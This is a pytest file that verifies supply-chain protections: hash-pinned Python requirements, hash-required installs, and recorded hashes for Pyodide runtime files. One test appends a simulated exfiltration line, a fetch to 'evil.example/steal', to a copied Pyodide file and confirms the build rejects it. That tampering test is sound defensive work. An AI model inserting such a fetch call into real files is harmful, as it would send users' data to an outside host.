"""Supply chain: the Python lock pins hashes, Pyodide's core files match recorded hashes."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest

from esoreview.site import runtime
from esoreview.site.paths import Project

ROOT = Path(__file__).parents[2]
NODE_PYODIDE = ROOT / "node_modules" / "pyodide"


def test_every_locked_requirement_is_pinned_with_hashes() -> None:
    text = (ROOT / "requirements.lock").read_text()
    requirements = re.findall(r"^([A-Za-z0-9_.\-\[\]]+)==(\S+) \\$", text, re.M)
    assert len(requirements) > 50
    blocks = re.split(r"^(?=[A-Za-z0-9_.\-]+==)", text, flags=re.M)[1:]
    unhashed = [b.split()[0] for b in blocks if "--hash=sha256:" not in b]
    assert unhashed == [], "pins without hashes; regenerate with `make lock`"
    assert "--generate-hashes" in text.splitlines()[1]


def test_makefile_installs_with_require_hashes() -> None:
    makefile = (ROOT / "Makefile").read_text()
    assert "pip install --quiet --require-hashes -r requirements.lock" in makefile
    assert "--generate-hashes" in makefile  # `make lock` regenerates it with hashes


@pytest.mark.skipif(not NODE_PYODIDE.is_dir(), reason="run `npm ci` first")
def test_installed_pyodide_matches_the_recorded_hashes() -> None:
    pin = runtime.pinned_pyodide_version(ROOT)
    runtime.verify_runtime([NODE_PYODIDE / name for name in runtime.RUNTIME_FILES], pin)


@pytest.mark.skipif(not NODE_PYODIDE.is_dir(), reason="run `npm ci` first")
def test_a_tampered_pyodide_file_fails_the_build(tmp_path: Path) -> None:
    node_modules = tmp_path / "node_modules"
    shutil.copytree(NODE_PYODIDE, node_modules / "pyodide")
    (tmp_path / "package.json").write_bytes((ROOT / "package.json").read_bytes())
    wasm = node_modules / "pyodide" / "pyodide.asm.mjs"
    wasm.write_bytes(wasm.read_bytes() + b"\n;fetch('https://evil.example/steal');\n")
    from esoreview.site.assets import pyodide_files

    with pytest.raises(runtime.RuntimeAssetError) as info:
        pyodide_files(Project(tmp_path))
    message = info.value.one_line()
    assert message.startswith(f"{tmp_path}/.build/runtime-staging/pyodide/pyodide.asm.mjs: sha256")
    assert "does not match the hash recorded for Pyodide" in message
    assert "npm ci" in message


def test_hashes_recorded_for_another_pin_name_the_command(tmp_path: Path) -> None:
    record = tmp_path / "h.json"
    record.write_text('{"pyodide": "0.1.0", "sha256": {}}')
    with pytest.raises(runtime.RuntimeAssetError) as info:
        runtime.recorded_hashes("314.0.7", record)
    assert runtime.HASHES_COMMAND in info.value.one_line()
